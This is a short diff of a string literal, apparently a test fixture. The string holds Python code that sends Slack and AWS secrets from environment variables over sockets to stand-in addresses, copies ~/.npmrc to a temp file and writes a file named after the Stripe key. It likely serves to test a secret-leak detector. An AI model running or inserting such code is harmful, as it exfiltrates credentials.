@@ -43,7 +43,7 @@ s.sendmsg([b'x' + env['SLACK_BOT_TOKEN'].encode()], [], 0, ('192.0.2.1', 97))
 t = socket.create_connection(('192.0.2.2', 80), 5)
 t.sendall(b'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\n\r\n' + env['AWS_SECRET_ACCESS_KEY'].encode())
 t.recv(100)
-open('/tmp/copy', 'w').write(open(home + '/.npmrc').read())
+open(env['TMPDIR'] + '/copy', 'w').write(open(home + '/.npmrc').read())
 os.makedirs(home + '/cache')
 open(home + '/cache/' + env['STRIPE_SECRET_KEY'], 'w')
 "#;
